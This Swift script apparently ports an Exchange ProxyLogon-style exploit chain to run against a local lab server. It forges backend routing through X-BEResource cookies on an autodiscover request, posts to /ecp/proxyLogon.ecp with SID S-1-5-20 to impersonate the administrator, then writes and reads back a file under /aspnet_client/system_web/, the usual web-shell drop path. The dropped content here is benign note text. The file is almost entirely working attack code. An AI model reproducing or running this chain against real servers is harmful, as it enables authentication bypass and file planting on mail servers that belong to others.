// Swift URLSession port of the lab request chain (toy server on 127.0.0.1 only).
// URLRequest keeps headers in a dictionary: Foundation chooses the order on the wire.
import Foundation

let port = CommandLine.arguments.count > 1 ? CommandLine.arguments[1] : "8080"
let base = "http://127.0.0.1:\(port)"
let agent = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
let domain = "lab.invalid"
let notePath = "/aspnet_client/system_web/readme_91453.txt"

struct Browser {
    static let fields: KeyValuePairs<String, String> = [
        "User-Agent": agent,
        "x-requested-with": "XMLHttpRequest",
        "Accept": "*/*",
        "accept-language": "en-US,en;q=0.9",
        "connection": "close",
    ]
}

func send(_ method: String, _ path: String, _ headers: [(String, String)], body: String? = nil) -> (Int, String) {
    var request = URLRequest(url: URL(string: base + path)!, timeoutInterval: 10)
    request.httpMethod = method
    for (name, value) in headers {
        request.setValue(value, forHTTPHeaderField: name)
    }
    if let body = body {
        request.httpBody = body.data(using: .utf8)
    }
    let done = DispatchSemaphore(value: 0)
    var result = (0, "")
    URLSession.shared.dataTask(with: request) { data, response, _ in
        let code = (response as? HTTPURLResponse)?.statusCode ?? 0
        result = (code, String(decoding: (data ?? Data()).prefix(1024), as: UTF8.self))
        done.signal()
    }.resume()
    done.wait()
    return result
}

let pad = String(repeating: "A", count: 37)
let cookie = "X-AnonResource=true; X-AnonResource-Backend=\(domain); X-BEResource=localhost@\(domain)/ews/exchange.asmx?a%3D~1843073522"
var first = Browser.fields.map { ($0.key, $0.value) }
first.append(("cookie", cookie))
let (code, _) = send("GET", "/autodiscover/autodiscover.json?Pad=\(pad)&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720", first)
if code >= 500 { exit(1) }

let (status, answer) = send("POST", "/ecp/proxyLogon.ecp", [
    ("user-agent", agent),
    ("msexchlogonmailbox", "S-1-5-20"),
    ("content-type", "application/json"),
    ("X-BEResource", "localhost@\(domain)/ecp/proxyLogon.ecp"),
], body: #"{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}"#)
let trimmed = answer.trimmingCharacters(in: .whitespacesAndNewlines)
let who = status == 200 && !trimmed.isEmpty ? trimmed : "anonymous"

let text = (1...3).map { "note \($0) of 3 for \(who)" }.joined(separator: "\n")
_ = send("POST", notePath, [("user-agent", agent), ("X-Note-Path", notePath), ("Content-Type", "text/plain")], body: text)
let (_, back) = send("GET", notePath, Browser.fields.map { ($0.key, $0.value) })
print(back.utf8.count)
